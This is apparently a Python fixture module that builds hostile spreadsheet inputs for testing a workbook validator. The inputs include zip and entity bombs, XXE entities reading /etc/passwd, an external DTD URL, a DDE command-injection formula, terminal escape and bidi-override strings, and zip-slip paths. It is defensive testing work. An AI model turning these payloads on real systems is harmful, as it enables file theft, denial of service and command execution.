"""Hostile inputs for ``test_hostile.py``, built by code (issue 9, second acceptance bullet).

Every case is a real file of a kind a finance bureau receives or an attacker sends: not a
workbook at all, a broken or foreign package, a package built to exhaust memory or read
local files, a workbook with text meant to become a formula or to drive a terminal, odd
names and paths. Most start from the bundled sample and patch its zip parts directly (the
sample writes inline strings, so a cell is one ``<c>`` element); a few go through openpyxl
(shared strings, formulas without cached values) or LibreOffice (.xls, .ods).

:func:`build_all` writes every case into one folder — the folder a batch consolidates —
and returns, per case, the reason it could not be built (``None`` when it was).
"""

from __future__ import annotations

import os
import random
import re
import shutil
import struct
import threading
import traceback
import warnings
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

import msoffcrypto.format.ooxml
import openpyxl
import pytest
from conftest import ROOT, SAMPLE, TEMPLATE, convert

TEMPLATE_XLSM = ROOT / "templates" / "target_template.xlsm"
GOOD_NAME = SAMPLE.name

#: The sample's parts by sheet title (see its xl/_rels/workbook.xml.rels).
DEPT = "部门整体"
UNION = "工会经费"
AID = "困难职工及劳模帮扶救助"
CHECKUP = "劳模体检及保险费"
WARMTH = "送温暖资金"
MAYDAY = "五一系列活动经费"
INVEST = "招商引资工作经费"
PART = {
    DEPT: "xl/worksheets/sheet2.xml",
    UNION: "xl/worksheets/sheet3.xml",
    AID: "xl/worksheets/sheet4.xml",
    CHECKUP: "xl/worksheets/sheet5.xml",
    WARMTH: "xl/worksheets/sheet6.xml",
    MAYDAY: "xl/worksheets/sheet7.xml",
    INVEST: "xl/worksheets/sheet8.xml",
}
WORKBOOK = "xl/workbook.xml"
MB = 1 << 20

#: Text that must never reach any output: the first line of /etc/passwd (XXE).
PASSWD_SECRET = "root:x:0:0"


# --- zip parts --------------------------------------------------------------------------------


def parts_of(path: Path = SAMPLE) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def write_zip(path: Path, parts: dict[str, bytes], extra: list[tuple[str, bytes]] | None = None) -> None:
    """Write ``parts`` (and ``extra`` entries, which may repeat a name) as a zip package."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name" for a deliberately repeated part
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in parts.items():
                zf.writestr(name, data)
            for name, data in extra or []:
                zf.writestr(name, data)


Edit = Callable[[str], str]


def patch(path: Path, edits: dict[str, Edit], source: Path = SAMPLE, drop: tuple[str, ...] = ()) -> None:
    """Copy ``source`` with each named part's XML text passed through its edit."""
    parts = parts_of(source)
    for name, edit in edits.items():
        parts[name] = edit(parts[name].decode("utf-8")).encode("utf-8")
    for name in drop:
        del parts[name]
    write_zip(path, parts)


def _cell_re(ref: str) -> re.Pattern[str]:
    return re.compile(rf'<c r="{ref}"(?=[\s/>])[^>]*?(?:/>|>.*?</c>)', re.S)


def _style(xml: str, ref: str) -> str:
    found = _cell_re(ref).search(xml)
    style = re.search(r'\ss="(\d+)"', found.group(0)) if found else None
    return f' s="{style.group(1)}"' if style else ""


def put_cell(xml: str, ref: str, body: str = "", kind: str | None = None) -> str:
    """Replace (or add) cell ``ref`` with ``<c r=ref t=kind>body</c>``, keeping its style.

    A new cell is appended to its row (so only for columns right of the row's cells), and a
    new row is inserted in row order."""
    t = f' t="{kind}"' if kind else ""
    cell = f'<c r="{ref}"{_style(xml, ref)}{t}>{body}</c>' if body else f'<c r="{ref}"{_style(xml, ref)}{t}/>'
    pattern = _cell_re(ref)
    if pattern.search(xml):
        return pattern.sub(lambda _: cell, xml, count=1)
    row = int(re.sub(r"^[A-Z]+", "", ref))
    row_re = re.compile(rf'<row r="{row}"(?=[\s>/])[^>]*?(?:/>|>.*?</row>)', re.S)
    found = row_re.search(xml)
    if found:
        text = found.group(0)
        if text.endswith("/>"):
            new = text[:-2].rstrip() + f">{cell}</row>"
        else:
            new = text[: -len("</row>")] + cell + "</row>"
        return xml[: found.start()] + new + xml[found.end() :]
    new_row = f'<row r="{row}">{cell}</row>'
    for later in re.finditer(r'<row r="(\d+)"', xml):
        if int(later.group(1)) > row:
            return xml[: later.start()] + new_row + xml[later.start() :]
    return xml.replace("</sheetData>", new_row + "</sheetData>", 1)


def text_cell(xml: str, ref: str, text: str, raw: bool = False) -> str:
    """An inline string (``raw``: ``text`` is inserted without XML escaping)."""
    value = text if raw else escape(text)
    return put_cell(xml, ref, f'<is><t xml:space="preserve">{value}</t></is>', "inlineStr")


def number_cell(xml: str, ref: str, value: str) -> str:
    return put_cell(xml, ref, f"<v>{value}</v>", "n")


def error_cell(xml: str, ref: str, error: str) -> str:
    return put_cell(xml, ref, f"<v>{error}</v>", "e")


def empty_cell(xml: str, ref: str) -> str:
    return put_cell(xml, ref)


def set_dimension(xml: str, ref: str) -> str:
    return re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', xml, count=1)


def with_doctype(xml: str, doctype: str) -> str:
    """Insert a DOCTYPE before the root element (after an XML declaration, if any)."""
    root = re.search(r"<(?![?!])", xml)
    assert root is not None
    return xml[: root.start()] + doctype + xml[root.start() :]


def rename_sheets(xml: str, names: dict[str, str]) -> str:
    """Rename sheets in workbook.xml (attribute and print-area references)."""
    for old, new in names.items():
        xml = xml.replace(f'name="{old}"', f'name="{escape(new, {chr(34): "&quot;"})}"')
        quoted = "'" + new.replace("'", "''") + "'"
        xml = xml.replace(f"'{old}'!", escape(quoted) + "!")
    return xml


def add_sheet(parts: dict[str, bytes], title: str, sheet_xml: str, number: int = 10) -> None:
    """Add a worksheet part to a package read with :func:`parts_of`."""
    rid = f"rId{100 + number}"
    part = f"xl/worksheets/sheet{number}.xml"
    parts[part] = sheet_xml.encode("utf-8")
    workbook = parts[WORKBOOK].decode("utf-8")
    entry = f'<sheet name="{escape(title)}" sheetId="{number}" state="visible" r:id="{rid}"/>'
    parts[WORKBOOK] = workbook.replace("</sheets>", entry + "</sheets>", 1).encode("utf-8")
    rels_name = "xl/_rels/workbook.xml.rels"
    rels = parts[rels_name].decode("utf-8")
    rel = (
        f'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        f' Target="/{part}" Id="{rid}"/>'
    )
    parts[rels_name] = rels.replace("</Relationships>", rel + "</Relationships>", 1).encode("utf-8")
    types_name = "[Content_Types].xml"
    types = parts[types_name].decode("utf-8")
    override = (
        f'<Override PartName="/{part}" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    )
    parts[types_name] = types.replace("</Types>", override + "</Types>", 1).encode("utf-8")


INLINE = re.compile(r'<c( r="[A-Z]+\d+"(?: s="\d+")?) t="inlineStr"><is><t[^>]*>(.*?)</t></is></c>', re.S)


def to_shared_strings(parts: dict[str, bytes]) -> None:
    """Move every inline string of every sheet into a shared-strings part (as Excel writes)."""
    strings: dict[str, int] = {}

    def shared(match: re.Match[str]) -> str:
        index = strings.setdefault(match.group(2), len(strings))
        return f'<c{match.group(1)} t="s"><v>{index}</v></c>'

    for name in sorted(n for n in parts if n.startswith("xl/worksheets/")):
        parts[name] = INLINE.sub(shared, parts[name].decode("utf-8")).encode("utf-8")
    items = "".join(f'<si><t xml:space="preserve">{text}</t></si>' for text in strings)
    parts["xl/sharedStrings.xml"] = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>'
    ).encode()
    rels_name = "xl/_rels/workbook.xml.rels"
    rel = (
        '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'sharedStrings" Target="/xl/sharedStrings.xml" Id="rId99"/>'
    )
    parts[rels_name] = (
        parts[rels_name].decode("utf-8").replace("</Relationships>", rel + "</Relationships>").encode()
    )
    types_name = "[Content_Types].xml"
    override = (
        '<Override PartName="/xl/sharedStrings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    )
    parts[types_name] = parts[types_name].decode("utf-8").replace("</Types>", override + "</Types>").encode()


def edited_parts(edits: dict[str, Edit]) -> dict[str, bytes]:
    parts = parts_of()
    for name, edit in edits.items():
        parts[name] = edit(parts[name].decode("utf-8")).encode("utf-8")
    return parts


SHEET_HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


# --- builders: not a workbook -----------------------------------------------------------------


def build_empty(path: Path, _: Builder) -> None:
    path.write_bytes(b"")


def build_text(path: Path, _: Builder) -> None:
    path.write_text("单位编码,单位名称,预算数\n711002,定州市总工会,538.18\n" * 50, encoding="utf-8")


def build_pdf(path: Path, _: Builder) -> None:
    """A small but complete PDF (one page with a line of text)."""
    stream = b"BT /F1 24 Tf 72 720 Td (Performance targets) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(bytes(out))


def build_png(path: Path, _: Builder) -> None:
    """A real 64×64 RGB PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    width = height = 64
    raw = b"".join(
        b"\x00" + b"".join(bytes((x * 4 % 256, y * 4 % 256, 128)) for x in range(width))
        for y in range(height)
    )
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    png = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    )
    path.write_bytes(png)


def build_html_xls(path: Path, _: Builder) -> None:
    """What many web systems export as "Excel": an HTML table named .xls."""
    rows = "".join(
        f"<tr><td>711-0301-JBN-{i:04d}</td><td>项目{i}</td><td>{i}.00</td></tr>" for i in range(50)
    )
    path.write_text(
        '<html><head><meta charset="utf-8"></head><body><table>'
        f"<tr><th>项目编码</th><th>项目名称</th><th>预算数</th></tr>{rows}</table></body></html>",
        encoding="utf-8",
    )


def build_fake_ole(path: Path, _: Builder) -> None:
    """The OLE2 signature followed by garbage: looks like an .xls to a sniffer."""
    header = bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    path.write_bytes(header + bytes(range(256)) * 64)


def build_truncated_half(path: Path, _: Builder) -> None:
    data = SAMPLE.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def build_truncated_tail(path: Path, _: Builder) -> None:
    """Every local entry intact, the central directory cut off."""
    data = SAMPLE.read_bytes()
    path.write_bytes(data[:-60])


def build_foreign_zip(path: Path, _: Builder) -> None:
    """A .docx-like package: a valid zip without xl/workbook.xml."""
    write_zip(
        path,
        {
            "[Content_Types].xml": (
                b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                b'package/2006/content-types"><Default Extension="rels" ContentType="application/'
                b'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
                b'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
                b'"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
            ),
            "_rels/.rels": (
                b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                b"</Relationships>"
            ),
            "word/document.xml": (
                '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>定州市总工会 2020 年绩效目标</w:t></w:r>'
                "</w:p></w:body></w:document>"
            ).encode(),
        },
    )


def build_bad_xml(path: Path, _: Builder) -> None:
    """A sheet part cut in the middle of an element: not well-formed XML."""

    def cut(xml: str) -> str:
        return xml[: len(xml) // 2]

    patch(path, {PART[UNION]: cut})


def build_missing_part(path: Path, _: Builder) -> None:
    """workbook.xml lists a sheet whose part is not in the zip."""
    patch(path, {}, drop=(PART[UNION],))


def build_zero_sheets(path: Path, _: Builder) -> None:
    def no_sheets(xml: str) -> str:
        xml = re.sub(r"<sheets>.*?</sheets>", "<sheets/>", xml, flags=re.S)
        return re.sub(r"<definedNames>.*?</definedNames>", "", xml, flags=re.S)

    patch(path, {WORKBOOK: no_sheets})


# --- builders: built to exhaust or to leak ---------------------------------------------------


def _bomb(path: Path, filler: bytes, total: int) -> None:
    """The sample with ``total`` bytes of ``filler`` at the end of a project sheet's data."""
    parts = parts_of()
    head, tail = parts[PART[UNION]].split(b"</sheetData>", 1)
    chunk = filler * (MB // len(filler))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in parts.items():
            if name != PART[UNION]:
                zf.writestr(name, data)
                continue
            with zf.open(name, "w", force_zip64=True) as out:
                out.write(head)
                for _ in range(total // len(chunk)):
                    out.write(chunk)
                out.write(b"</sheetData>" + tail)


def build_bomb_blank(path: Path, _: Builder) -> None:
    """~120 MB of whitespace in a sheet part (compresses ~1000:1)."""
    _bomb(path, b" " * 64, 120 * MB)


def build_bomb_rows(path: Path, _: Builder) -> None:
    """~120 MB of identical rows (no ``r`` attribute: numbered on) in a sheet part."""
    _bomb(path, b'<row><c t="inlineStr"><is><t>AAAAAAAA</t></is></c><c><v>1</v></c></row>', 120 * MB)


def build_entity_bomb(path: Path, _: Builder) -> None:
    """Billion laughs: a DOCTYPE in xl/workbook.xml, the entity used in a sheet name."""
    levels = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    levels += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = f"<!DOCTYPE workbook [{''.join(levels)}]>"

    def bomb(xml: str) -> str:
        return with_doctype(xml, doctype).replace(f'name="{DEPT}"', 'name="&lol9;"', 1)

    patch(path, {WORKBOOK: bomb})


def build_entity_bomb_sheet(path: Path, _: Builder) -> None:
    """Quadratic blowup: one 1 MB entity referenced 2,000 times in a cell (2 GB expanded)."""
    doctype = f'<!DOCTYPE worksheet [<!ENTITY big "{"x" * MB}">]>'

    def bomb(xml: str) -> str:
        return text_cell(with_doctype(xml, doctype), "E3", "&big;" * 2000, raw=True)

    patch(path, {PART[UNION]: bomb})


def build_xxe_sheet(path: Path, _: Builder) -> None:
    """An external entity to /etc/passwd as a project's name."""
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

    def xxe(xml: str) -> str:
        return text_cell(with_doctype(xml, doctype), "E3", "&xxe;", raw=True)

    patch(path, {PART[UNION]: xxe})


def build_xxe_shared(path: Path, _: Builder) -> None:
    """An external entity to /etc/passwd in the shared strings (a project's name)."""
    parts = parts_of()
    to_shared_strings(parts)
    doctype = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    sst = with_doctype(parts["xl/sharedStrings.xml"].decode("utf-8"), doctype)
    sst = sst.replace(f'<t xml:space="preserve">{UNION}</t>', "<t>&xxe;</t>", 1)
    parts["xl/sharedStrings.xml"] = sst.encode("utf-8")
    write_zip(path, parts)


def build_external_dtd(path: Path, _: Builder) -> None:
    """A DOCTYPE naming an external DTD on the network (must not be fetched)."""
    doctype = '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/evil.dtd">'
    patch(path, {PART[AID]: lambda xml: with_doctype(xml, doctype)})


def build_far_cell(path: Path, _: Builder) -> None:
    """A value in the last cell Excel has (XFD1048576), dimension declared to match."""

    def far(xml: str) -> str:
        return set_dimension(text_cell(xml, "XFD1048576", "远"), "A1:XFD1048576")

    patch(path, {PART[UNION]: far})


def build_far_dimension(path: Path, _: Builder) -> None:
    """Only the declared dimension is huge; the cells are the sample's."""
    patch(path, {PART[AID]: lambda xml: set_dimension(xml, "A1:XFD1048576")})


def build_rows_sheet(path: Path, _: Builder) -> None:
    """An extra sheet of 100,000 rows × 4 columns."""
    rows = "".join(
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>第{r}行</t></is></c><c r="B{r}"><v>{r}</v></c>'
        f'<c r="C{r}"><v>{r / 100}</v></c><c r="D{r}" t="inlineStr"><is><t>明细{r % 97}</t></is></c></row>'
        for r in range(1, 100_001)
    )
    parts = parts_of()
    add_sheet(
        parts,
        "明细数据",
        f'{SHEET_HEAD}<dimension ref="A1:D100000"/><sheetData>{rows}</sheetData></worksheet>',
    )
    write_zip(path, parts)


def build_rows_in_form(path: Path, _: Builder) -> None:
    """100,000 rows pasted under a project sheet's form (in the 资金明细 columns)."""
    rows = "".join(
        f'<row r="{r}"><c r="B{r}" t="inlineStr"><is><t>用途{r}</t></is></c><c r="F{r}"><v>0.01</v></c></row>'
        for r in range(31, 100_031)
    )

    def many(xml: str) -> str:
        return set_dimension(xml.replace("</sheetData>", rows + "</sheetData>", 1), "A1:G100030")

    patch(path, {PART[WARMTH]: many})


def build_strings_1mb(path: Path, _: Builder) -> None:
    """1 MB strings (unit name, project name, fund use, indicator name and value) of varied
    text, so that they compress no better than real text does."""
    rng = random.Random(9)

    def text(alphabet: str) -> str:
        return "".join(rng.choices(alphabet, k=MB // len(alphabet[0].encode("utf-8"))))

    cjk = "".join(chr(c) for c in range(0x4E00, 0x9FA5))

    def project(xml: str) -> str:
        for ref in ("E3", "C5", "C10"):
            xml = text_cell(xml, ref, text(cjk))
        return text_cell(xml, "F10", "≥" + text("0123456789"))

    patch(path, {PART[DEPT]: lambda xml: text_cell(xml, "D2", text(cjk)), PART[UNION]: project})


# --- builders: other formats -----------------------------------------------------------------


def build_xls(path: Path, builder: Builder) -> None:
    shutil.copyfile(builder.converted("xls"), path)


def build_ods(path: Path, builder: Builder) -> None:
    shutil.copyfile(builder.converted("ods"), path)


def build_ole_as_xlsx(path: Path, builder: Builder) -> None:
    """An .xls (OLE) file named .xlsx."""
    shutil.copyfile(builder.converted("xls"), path)


def build_zip_as_xls(path: Path, _: Builder) -> None:
    """An .xlsx (zip) file named .xls."""
    shutil.copyfile(SAMPLE, path)


def build_wps_et(path: Path, builder: Builder) -> None:
    """A WPS .et file (WPS writes an OLE compound file, as .xls does)."""
    shutil.copyfile(builder.converted("xls"), path)


def build_xlsm(path: Path, _: Builder) -> None:
    """The sample as a macro-enabled package (content type), named .xlsm."""

    def macro(xml: str) -> str:
        return xml.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )

    patch(path, {"[Content_Types].xml": macro})


def build_template_xlsm(path: Path, _: Builder) -> None:
    """The clerk's blank .xlsm (a real VBA project and form buttons)."""
    shutil.copyfile(TEMPLATE_XLSM, path)


def build_encrypted(path: Path, _: Builder) -> None:
    with SAMPLE.open("rb") as source, path.open("wb") as out:
        msoffcrypto.format.ooxml.OOXMLFile(source).encrypt("secret", out)


def build_empty_workbook(path: Path, _: Builder) -> None:
    """A new workbook: one sheet, no rows."""
    openpyxl.Workbook().save(path)


def build_template_blank(path: Path, _: Builder) -> None:
    """Only the template's blank sheets."""
    shutil.copyfile(TEMPLATE, path)


# --- builders: hostile content ---------------------------------------------------------------


def build_formulas_no_values(path: Path, _: Builder) -> None:
    """Amounts as formulas, saved by openpyxl (which stores no cached values)."""
    wb = openpyxl.load_workbook(SAMPLE)
    ws = wb[UNION]
    ws["C4"] = "=E4+G4"
    ws["E4"] = "=400+50"
    wb.save(path)


def build_error_div0(path: Path, _: Builder) -> None:
    patch(path, {PART[UNION]: lambda xml: error_cell(xml, "C4", "#DIV/0!")})


def build_error_ref(path: Path, _: Builder) -> None:
    patch(path, {PART[UNION]: lambda xml: error_cell(error_cell(xml, "E4", "#REF!"), "B7", "#N/A")})


def build_nan_inf(path: Path, _: Builder) -> None:
    """Raw NaN / inf numbers (written by some exporters)."""

    def nan(xml: str) -> str:
        return number_cell(number_cell(number_cell(xml, "C4", "NaN"), "E4", "inf"), "C7", "-inf")

    patch(path, {PART[UNION]: nan})


def build_merged_over_values(path: Path, _: Builder) -> None:
    """A merged range (C4:G4) over cells that keep their values (E4 = 450)."""

    def merge(xml: str) -> str:
        xml = re.sub(r'<mergeCells count="(\d+)">', lambda m: f'<mergeCells count="{int(m[1]) + 1}">', xml)
        return xml.replace("</mergeCells>", '<mergeCell ref="C4:G4"/></mergeCells>', 1)

    patch(path, {PART[UNION]: merge})


def build_empty_budget(path: Path, _: Builder) -> None:
    patch(path, {PART[UNION]: lambda xml: empty_cell(xml, "C4")})


def build_two_budget_labels(path: Path, _: Builder) -> None:
    """A stray second 预算数 label (with a value) above the form on one project sheet."""
    patch(path, {PART[UNION]: lambda xml: number_cell(text_cell(xml, "I2", "预算数"), "J2", "999")})


def build_fullwidth_amounts(path: Path, _: Builder) -> None:
    """Amounts typed as full-width text (４５０, ４５０．００万元, ２５％)."""

    def wide(xml: str) -> str:
        xml = text_cell(xml, "C4", "４５０")
        xml = text_cell(xml, "E4", "４５０．００万元")
        return text_cell(xml, "B7", "２５％")

    patch(path, {PART[UNION]: wide})


def build_formula_text(path: Path, _: Builder) -> None:
    """Text that looks like a formula in names, indicator values and the unit name."""

    def project(xml: str) -> str:
        xml = text_cell(xml, "E3", "=11个")
        xml = text_cell(xml, "F10", "+1")
        xml = text_cell(xml, "F11", "-2")
        xml = text_cell(xml, "C12", "@SUM(A1)")
        return text_cell(xml, "C13", '=HYPERLINK("http://x","y")')

    def other(xml: str) -> str:
        return text_cell(xml, "E3", "=cmd|' /C calc'!A0")

    patch(
        path,
        {
            PART[UNION]: project,
            PART[AID]: other,
            PART[DEPT]: lambda xml: text_cell(xml, "D2", "=1+1定州市总工会"),
        },
    )


def build_sheet_names_odd(path: Path, _: Builder) -> None:
    """Odd but legal sheet names: quotes, CJK punctuation, 31 characters, leading = + @ -."""
    wb = openpyxl.load_workbook(SAMPLE)
    wb[UNION].title = "O'Brien's 项目"
    wb[AID].title = "「项目」（二）：、。【括号】"
    wb[CHECKUP].title = ("劳模体检及保险费" * 4)[:31]
    wb[WARMTH].title = "=SUM(A1)"
    wb[MAYDAY].title = "+1 -2"
    wb[INVEST].title = "@x"
    wb.save(path)


def build_sheet_names_forbidden(path: Path, _: Builder) -> None:
    """Sheet names Excel forbids, written straight into workbook.xml."""
    names = {
        UNION: "[项目]",
        AID: "a:b/c?d*e\\f",
        CHECKUP: "'引号开头'",
        WARMTH: "超过三十一个字符的工作表名称" * 4,
    }
    patch(path, {WORKBOOK: lambda xml: rename_sheets(xml, names)})


def build_sheet_names_duplicate(path: Path, _: Builder) -> None:
    """Two sheets with the same name (and one with an empty name)."""
    patch(path, {WORKBOOK: lambda xml: rename_sheets(xml, {AID: UNION, MAYDAY: ""})})


def build_ctrl_shared(path: Path, _: Builder) -> None:
    """Excel's _xHHHH_ escapes (ESC, BEL, NUL, terminal sequences) in shared strings."""

    def project(xml: str) -> str:
        xml = text_cell(xml, "E3", "工会_x001B_[2J_x001B_[31m经费")
        xml = text_cell(xml, "C10", "用工矛盾_x0000_法律援助人次")
        return text_cell(xml, "F10", "≥30人次_x001B_]0;owned_x0007_")

    parts = edited_parts(
        {PART[UNION]: project, PART[DEPT]: lambda xml: text_cell(xml, "D2", "定州市_x0007_总工会")}
    )
    to_shared_strings(parts)
    write_zip(path, parts)


def build_ctrl_inline_escapes(path: Path, _: Builder) -> None:
    """The same _xHHHH_ escapes in inline strings."""
    patch(
        path,
        {
            PART[UNION]: lambda xml: text_cell(xml, "E3", "工会_x001B_[2J经费_x0000_"),
            PART[DEPT]: lambda xml: text_cell(xml, "D2", "定州市_x0007_总工会"),
        },
    )


def build_ctrl_raw(path: Path, _: Builder) -> None:
    """Raw BEL and ESC bytes in inline strings (not allowed in XML 1.0)."""
    patch(path, {PART[UNION]: lambda xml: text_cell(xml, "E3", "工会\x07经费\x1b[31m红")})


def build_ctrl_charref(path: Path, _: Builder) -> None:
    """ESC and BEL as character references (&#x1B; — also not allowed in XML 1.0)."""
    patch(path, {PART[UNION]: lambda xml: text_cell(xml, "E3", "工会&#x1B;[31m经费&#x7;", raw=True)})


def build_bidi(path: Path, _: Builder) -> None:
    """Right-to-left override (U+202E) and other bidi controls in names and a sheet name."""

    def names(xml: str) -> str:
        return text_cell(text_cell(xml, "E3", "工会\u202eexe.txt\u202c经费"), "C10", "\u2066用工\u2069矛盾")

    patch(
        path,
        {
            PART[UNION]: names,
            PART[DEPT]: lambda xml: text_cell(xml, "D2", "\u202e会工总市州定"),
            WORKBOOK: lambda xml: rename_sheets(xml, {AID: "\u202e助救扶帮"}),
        },
    )


def build_zip_slip(path: Path, _: Builder) -> None:
    """Extra zip entries with path-traversal and absolute names."""
    parts = parts_of()
    parts["../../../../tmp/workbook_tools_zip_slip.txt"] = b"escaped"
    parts["/etc/workbook_tools_zip_slip.txt"] = b"absolute"
    write_zip(path, parts)


def build_duplicate_part(path: Path, _: Builder) -> None:
    """The same sheet part twice in the zip, with different contents."""
    parts = parts_of()
    second = text_cell(parts[PART[UNION]].decode("utf-8"), "E3", "第二个同名部件")
    write_zip(path, parts, extra=[(PART[UNION], second.encode("utf-8"))])


def build_copy(path: Path, _: Builder) -> None:
    """The good sample under a hostile file name."""
    shutil.copyfile(SAMPLE, path)


def build_self_loop(path: Path, _: Builder) -> None:
    """A symlink to itself (opening it fails with ELOOP)."""
    os.symlink(path.name, path)


def build_loop_dir(path: Path, _: Builder) -> None:
    """A folder holding ``a → .`` (``path`` is the link ``loop_dir/a``)."""
    path.parent.mkdir()
    os.symlink(".", path)


def build_unreadable(path: Path, _: Builder) -> None:
    shutil.copyfile(SAMPLE, path)
    path.chmod(0)


def build_folder(path: Path, _: Builder) -> None:
    """A directory named like a workbook."""
    path.mkdir()


# --- the cases -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile input and what the tool must answer for it."""

    name: str
    filename: str  # inside the inputs folder (may hold a '/')
    build: Callable[[Path, Builder], None]
    codes: tuple[tuple[str, str | None], ...] = ()  # (code, sheet or None): each must be found
    one_of: tuple[str, ...] = ()  # at least one of these codes must be found
    exit: int | None = None  # validate's exit code, when it is known
    same_as_sample: bool = False  # exactly the good sample's findings
    new_on_sheet: str | None = None  # a finding on this sheet the sample does not have
    secret: str | None = None  # text that must not appear in any output
    terminal: bool = False  # carries control or bidi characters meant for a terminal
    listed: bool = True  # a batch over the folder must list it in 文件清单
    needs_non_root: bool = False  # chmod 000 does not stop root from reading


UNREADABLE = 2


def _x(code: str) -> tuple[tuple[str, str | None], ...]:
    return ((code, None),)


CASES: list[Case] = [
    # not a workbook
    Case("empty_file", "empty.xlsx", build_empty, _x("X001"), exit=UNREADABLE),
    Case("text_as_xlsx", "text_renamed.xlsx", build_text, _x("X001"), exit=UNREADABLE),
    Case("pdf_as_xlsx", "pdf_renamed.xlsx", build_pdf, _x("X001"), exit=UNREADABLE),
    Case("png_as_xlsx", "png_renamed.xlsx", build_png, _x("X001"), exit=UNREADABLE),
    Case("html_as_xls", "html_table.xls", build_html_xls, _x("X001"), exit=UNREADABLE),
    Case("fake_ole_xls", "fake_ole.xls", build_fake_ole, _x("X001"), exit=UNREADABLE),
    Case("truncated_half", "truncated_half.xlsx", build_truncated_half, _x("X001"), exit=UNREADABLE),
    Case("truncated_tail", "truncated_tail.xlsx", build_truncated_tail, _x("X001"), exit=UNREADABLE),
    Case("foreign_zip_docx", "foreign_docx_like.xlsx", build_foreign_zip, _x("X001"), exit=UNREADABLE),
    Case("sheet_not_well_formed", "bad_sheet_xml.xlsx", build_bad_xml, _x("X001"), exit=UNREADABLE),
    Case("missing_sheet_part", "missing_part.xlsx", build_missing_part, _x("X001"), exit=UNREADABLE),
    Case("zero_sheets", "zero_sheets.xlsx", build_zero_sheets, one_of=("X001", "X003")),
    Case("folder_named_xlsx", "folder.xlsx", build_folder, _x("X001"), exit=UNREADABLE, listed=False),
    Case("symlink_self_loop", "self_loop.xlsx", build_self_loop, _x("X001"), exit=UNREADABLE),
    Case("symlink_loop_dir", "loop_dir/a", build_loop_dir, _x("X001"), exit=UNREADABLE),
    Case(
        "unreadable_chmod_000",
        "unreadable.xlsx",
        build_unreadable,
        _x("X001"),
        exit=UNREADABLE,
        needs_non_root=True,
    ),
    # built to exhaust memory or to read local files
    Case("zip_bomb_blank", "zip_bomb_blank.xlsx", build_bomb_blank, _x("X005"), exit=UNREADABLE),
    Case("zip_bomb_rows", "zip_bomb_rows.xlsx", build_bomb_rows, _x("X005"), exit=UNREADABLE),
    Case("entity_bomb_workbook", "entity_bomb.xlsx", build_entity_bomb, _x("X005"), exit=UNREADABLE),
    Case("entity_bomb_sheet", "entity_quadratic.xlsx", build_entity_bomb_sheet, _x("X005"), exit=UNREADABLE),
